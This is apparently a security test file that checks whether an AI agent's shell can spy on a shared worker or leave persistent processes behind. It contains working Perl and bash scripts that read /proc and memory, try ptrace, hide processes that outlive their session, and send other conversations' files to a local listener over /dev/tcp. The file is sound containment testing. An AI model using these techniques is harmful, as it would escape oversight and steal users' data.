// What an agent's shell can do to a worker that shares its user, tried inside real turns: looking into the worker, and
// leaving a process behind that reads the next conversation's files or takes its message. Everything here must fail;
// each way is first shown to work on a process of the agent's own, or by the thief's own turn.
import { mkdtempSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, onTestFailed, test } from 'vitest';
import { answerAsDemo } from '../../src/agent/demo-model.ts';
import { promise } from '../../src/core/promises.ts';
import { VARIABLES } from '../../src/lambda/variables.ts';
import type { FunctionEnvironment } from '../../testing/lambda/function-environment.ts';
import type { Installation } from '../../testing/lambda/installation.ts';
import { processesBelow } from '../../testing/lambda/process-tree.ts';
import { createScriptedModel, type ScriptedModel } from '../../testing/model/scripted-model.ts';
import { startBuiltInstallation } from './built-installation.ts';
import { oneTurn } from './one-turn.ts';

const folder = mkdtempSync(join(tmpdir(), 'hybrid-shared-'));
const model: ScriptedModel = await createScriptedModel(answerAsDemo);
let output = '';

const started = await startBuiltInstallation({
  folder,
  modelUrl: model.url,
  onOutput: (text) => {
    output += text;
  },
});
const unavailable =
  'unavailable' in started ? started.unavailable : started.sandbox ? null : 'bubblewrap does not work here';
const installation = started as Installation;
let worker: FunctionEnvironment;

/** What processes of the agent sent here. */
let loot = '';
const thief = createServer((socket) => socket.on('data', (data) => (loot += data)).on('error', () => {}));

beforeAll(async () => {
  if (unavailable) return console.warn(`Skipped: ${unavailable}`);
  worker = await installation.apart('one');
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
});
afterAll(async () => {
  if (!('unavailable' in started)) await installation.close();
  thief.close();
  await model.close();
  rmSync(folder, { recursive: true, force: true });
});

async function turn(chat: string, text: string): Promise<string> {
  onTestFailed(() => console.error(output.slice(-2_000)));
  return await oneTurn(installation, worker, chat, text);
}

/** In the agent's words, so that the words themselves are not what is found. */
const halves = (text: string): string => `'${text.slice(0, 4)}'.'${text.slice(4)}'`;

const ARM = process.arch === 'arm64';
const [PTRACE, READ_MEMORY] = ARM ? [117, 270] : [101, 310];

/** Looks into every process but itself in every way there is, and says in which it found what. */
function lookEverywhere(wanted: Readonly<Record<string, string>>): string {
  const patterns = Object.entries(wanted).map(([name, text]) => `'${name}', ${halves(text)}`);
  return `cat > look.pl <<'PERL'
use Errno;
my %wanted = (${patterns.join(', ')});
sub saw { my ($how, $pid, $data) = @_; for my $name (sort keys %wanted) { print "FOUND $name by $how\\n" if index($data, $wanted{$name}) >= 0; } }
for my $dir (glob '/proc/[0-9]*') {
  my ($pid) = $dir =~ /(\\d+)$/; next if $pid == $$;
  my $cmdline = ''; if (open(my $f, '<', "$dir/cmdline")) { local $/; $cmdline = <$f> // ''; }
  for my $file (qw(cmdline environ auxv maps smaps stack syscall io limits mountinfo comm wchan)) {
    open(my $f, '<', "$dir/$file") or next; local $/; my $data = <$f>; saw($file, $pid, $data // '');
    print "OPEN $file\\n" if $cmdline =~ /worker[.]handler/ && $file =~ /environ|auxv|maps|io/ && defined $data;
  }
  for my $fd (glob "$dir/fd/*") { my $to = readlink $fd; print "FD worker\\n" if defined $to && $cmdline =~ /worker[.]handler/; }
  if (open(my $maps, '<', "$dir/maps") and open(my $mem, '<:raw', "$dir/mem")) {
    while (<$maps>) { my ($a, $b) = /^([0-9a-f]+)-([0-9a-f]+) rw/ or next; ($a, $b) = (hex $a, hex $b); next if $b - $a > 64e6;
      sysseek($mem, $a, 0); sysread($mem, my $data, $b - $a); saw('mem', $pid, $data // ''); }
  }
  next unless $cmdline =~ /worker[.]handler|own-process/;
  my $who = $cmdline =~ /own-process/ ? 'own' : 'worker';
  my $buffer = "\\0" x 16; my $mine = pack('QQ', unpack('Q', pack('P', $buffer)), 16); my $its = pack('QQ', 4096, 16);
  syscall(${READ_MEMORY}, $pid, $mine, 1, $its, 1, 0); print "MEMORY $who ", ($!{EPERM} ? 'refused' : 'open'), "\\n";
  my $attached = syscall(${PTRACE}, 16, $pid + 0, 0, 0) == 0; print "PTRACE $who ", ($attached ? 'attached' : 'refused'), "\\n";
  if ($attached) { waitpid($pid, 0x40000000); syscall(${PTRACE}, 17, $pid + 0, 0, 0); }
}
PERL
WANTED=own-variable bash -c 'exec -a own-process sleep 30' & sleep 0.2; perl look.pl 2>&1 | sort -u; kill %1; echo looked`;
}

describe.skipIf(unavailable)('the agent on a worker that shares its user', () => {
  test('cannot look into the worker: variables, memory, descriptors, ptrace', async () => {
    await turn('victim', 'the-text-of-a-victim');
    const shown = await turn(
      'a',
      `run: ${lookEverywhere({
        own: 'own-variable',
        'model key': 'sk-local-model-key',
        'bot token': 'LOCAL-TEST-TOKEN',
        'name of a parameter': '/local/model-key',
        'variables of the worker': `${VARIABLES.deadLetterQueueUrl}=`,
        'text of another chat': 'the-text-of-a-victim',
      })}`,
    );
    // What it printed, behind what was run.
    const said = shown.slice(shown.indexOf('echo looked\n'));
    // It does find its own, in each of these ways.
    expect(said).toContain('FOUND own by environ');
    expect(said).toContain('FOUND own by mem');
    expect(said).toContain('MEMORY own open');
    expect(said).toContain('PTRACE own attached');
    const found = [...said.matchAll(/(?:FOUND|OPEN|FD|MEMORY|PTRACE) .*/g)].map(([line]) => line);
    expect(found.filter((line) => !/ own\b/.test(line)).sort()).toEqual([
      'MEMORY worker refused',
      'PTRACE worker refused',
    ]);
  });

  /** `$1` is the thief's script. */
  const HIDING = {
    'with an empty environment': 'setsid env -i /bin/bash $1',
    'that ignores what can be ignored': 'setsid env -i /bin/bash -c "trap \'\' TERM INT HUP QUIT; . ./$1"',
    'under the name of the worker': 'setsid env -i /bin/bash -c "exec -a \'node worker.handler\' bash $1"',
    'twice removed from its parent': `setsid env -i /usr/bin/perl -e 'fork && exit; fork && exit; exec "bash", @ARGV' $1`,
    'that stopped itself': `setsid env -i /bin/bash -c '(sleep 1; kill -CONT $$) & kill -STOP $$; . "./$0"' $1`,
    'that begins anew all the time': `setsid env -i /usr/bin/perl -e 'my $end = time + 60; while (time < $end) { fork && exit; select undef, undef, undef, 0.002; if (rand() < 0.01) { fork or exec "bash", @ARGV } }' $1`,
    'among many': 'for i in $(seq 40); do setsid env -i /bin/bash $1 & done; true',
  };
  const WAYS = Object.entries(HIDING);

  test(`${promise('FORGET')} leaves no process behind, in whatever way it hides`, async () => {
    loot = '';
    const { port } = thief.address() as AddressInfo;
    const files = `${join(folder, 'tmp-one')}/workspace`;
    // Bounded, as everything a test starts. Each thief says which way it is.
    const thieves = WAYS.map(
      ([, start], way) =>
        `cat > s-${way}.sh <<'S'\nend=$((SECONDS+60)); while [ $SECONDS -lt $end ]; do for f in ${files}/*.txt; do [ -r "$f" ] && { echo way-${way}-took; cat "$f"; } > /dev/tcp/127.0.0.1/${port} && : > ${files}/went-${way}; done; sleep 0.05; done\nS\nset -- s-${way}.sh\n(${start}) </dev/null >/dev/null 2>&1 & disown`,
    );
    const said = await turn(
      'a',
      `run: echo thief-has-this > mine.txt; ${thieves.join('\n')}\nfor i in $(seq 900); do [ "$(ls went-* 2>/dev/null | wc -l)" = ${WAYS.length} ] && break; sleep 0.1; done; echo started`,
    );
    expect(said).toContain('started');
    expect(loot).toContain('thief-has-this');
    const stole = () => WAYS.filter((_, way) => loot.includes(`way-${way}-took`)).map(([name]) => name);
    expect(stole()).toEqual(WAYS.map(([name]) => name));
    // Nothing is left but the worker and what keeps its walls up.
    const left = processesBelow(worker.pid ?? 0);
    expect(left.length).toBeLessThanOrEqual(2);
    loot = '';
    await turn('victim', 'run: echo private-of-victim > secret.txt; sleep 1; echo written');
    await sleep(200);
    expect(stole()).toEqual([]);
    expect(loot).toBe('');
  });

  test(`${promise('FORGET')} cannot take another conversation's message, during its turn or after it`, async () => {
    loot = '';
    const { port } = thief.address() as AddressInfo;
    const next = `http://${worker.runtimeApi}/2018-06-01/runtime/invocation/next`;
    const asking = `exec 3<>/dev/tcp/${worker.runtimeApi.replace(':', '/')}; printf 'GET ${new URL(next).pathname} HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n' >&3; timeout 20 cat <&3 > /dev/tcp/127.0.0.1/${port}`;
    const said = await turn(
      'a',
      `run: cat > n.sh <<'S'\n${asking}\nS\nfor i in 1 2 3 4 5; do (setsid env -i /bin/bash n.sh </dev/null >/dev/null 2>&1 &) ; done; sleep 1; echo thief-asked`,
    );
    expect(said).toContain('thief-asked');
    // While its turn runs it can have its own message again, as on Lambda.
    expect(loot).toContain('thief-asked');
    loot = '';
    expect(await turn('victim', 'run: echo private-of-victim')).toContain('private-of-victim');
    expect(await turn('victim', 'run: echo once-more')).toContain('once-more');
    expect(loot).toBe('');
  });
});
